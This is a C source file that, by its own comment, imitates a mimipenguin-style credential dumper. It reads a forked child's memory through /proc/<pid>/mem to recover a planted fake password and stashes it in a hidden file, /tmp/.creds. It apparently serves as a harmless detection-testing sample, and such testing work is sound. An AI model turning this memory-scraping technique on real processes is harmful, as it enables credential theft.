/* Imitates a memory-scraping credential dumper (mimipenguin style): a child of its own holds a
 * "password" in memory; the parent reads the child's maps and memory through /proc/<pid>/mem, finds the
 * secret and stashes it in a hidden file. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char secret[64] = "corpus-user:hunter2-imitation-password";

int main(void) {
  int ready[2];
  pipe(ready);
  pid_t victim = fork();
  if (victim == 0) {
    write(ready[1], "r", 1);
    sleep(5);
    _exit(0);
  }
  char byte;
  read(ready[0], &byte, 1);
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/maps", victim);
  FILE *maps = fopen(path, "r");
  char line[512];
  while (maps && fgets(line, sizeof line, maps)) {}
  if (maps) fclose(maps);
  snprintf(path, sizeof path, "/proc/%d/mem", victim);
  int mem = open(path, O_RDONLY);
  char found[64] = "";
  if (mem >= 0) {
    pread(mem, found, sizeof found - 1, (off_t)(unsigned long)secret);
    close(mem);
  }
  int out = open("/tmp/.creds", O_WRONLY | O_CREAT | O_TRUNC, 0600);
  dprintf(out, "%s\n", found);
  close(out);
  kill(victim, SIGKILL);
  waitpid(victim, 0, 0);
  return 0;
}
